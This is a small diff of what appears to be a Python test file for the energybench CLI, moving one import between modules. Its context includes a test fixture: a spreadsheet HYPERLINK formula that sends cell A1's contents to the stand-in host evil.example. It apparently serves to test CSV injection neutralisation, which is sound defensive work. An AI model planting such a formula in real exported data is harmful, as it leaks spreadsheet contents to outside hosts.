@@ -25,8 +25,8 @@ from typer.testing import CliRunner
 
 import energybench
 from energybench.cli import app
-from energybench.lifecycle.checkpoint import recipe_path
 from energybench.report.export import csv_safe, neutralize_csv_cell
+from energybench.run.checkpoint import recipe_path
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 MATH = r"$\undefined$"
